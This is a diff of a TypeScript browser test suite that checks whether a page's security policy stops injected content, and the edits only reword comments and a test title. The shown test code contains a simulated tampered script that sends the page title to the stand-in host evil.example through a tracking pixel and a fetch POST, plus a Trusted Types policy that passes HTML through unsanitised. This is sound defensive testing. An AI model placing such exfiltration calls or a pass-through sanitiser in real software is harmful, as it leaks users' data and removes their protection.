@@ -4,7 +4,7 @@ import { contentItem, serveContent, type Region } from '../fixtures/content.ts';
 import { attacks, floods, type Attack } from '../fixtures/malicious-content.ts';
 import { expect, test } from '../fixtures/test.ts';
 
-/** What an attack achieved: it ran, it reached another host, it hid the page; and what the browser refused. */
+/** Records an attack's effects: it ran, reached another host or hid the page; and what the browser refused. */
 async function watch(page: Page) {
   const found = { runs: 0, outside: [] as string[], refused: [] as string[] };
   await page.exposeFunction('ran', () => void (found.runs += 1));
@@ -75,7 +75,7 @@ test.describe('in the product, with the policy of the page switched off', () => 
     });
 });
 
-// As a sanitiser would that lets everything pass: what remains is the rest of the policy.
+// Replaces the sanitiser with one that lets everything pass: only the policy remains.
 const insert = `
   const trusted = trustedTypes.createPolicy('dompurify', { createHTML: (html) => html });
   place.innerHTML = trusted.createHTML(JSON.parse(document.getElementById('content').textContent));
@@ -83,14 +83,14 @@ const insert = `
 const integrity = `sha384-${createHash('sha384').update(insert).digest('base64')}`;
 const head = `<!doctype html><meta charset="utf-8"><title>Fixture</title><h1>Fixture</h1><div id="place"></div>`;
 
-/** A page that draws content as it is: written into the page, or put there by a script as the product would. */
+/** A page that draws content unchanged, parsed or inserted by a script. */
 function drawAsItIs({ html }: Attack, way: 'parsed' | 'inserted') {
   if (way === 'parsed') return head + html;
   const data = JSON.stringify(html).replaceAll('<', String.raw`\u003c`);
   return `${head}<script type="application/json" id="content">${data}</script><script src="/insert.js" integrity="${integrity}" crossorigin="anonymous"></script>`;
 }
 
-/** What a script of the page itself would do that somebody tampered with. */
+/** What a tampered script of the page would do. */
 const track = `
   new Image().src = 'https://evil.example/pixel.png?' + document.title;
   fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
@@ -103,7 +103,7 @@ test.describe('on a page without the sanitiser', () => {
     expectedHosts: ['evil.example'],
   });
 
-  test('the policy lets no script of the page fetch a tracking pixel or send anything to another host; without it both work', async ({
+  test('the policy lets no script fetch a tracking pixel or send to another host; without it both work', async ({
     page,
   }) => {
     const found = await watch(page);
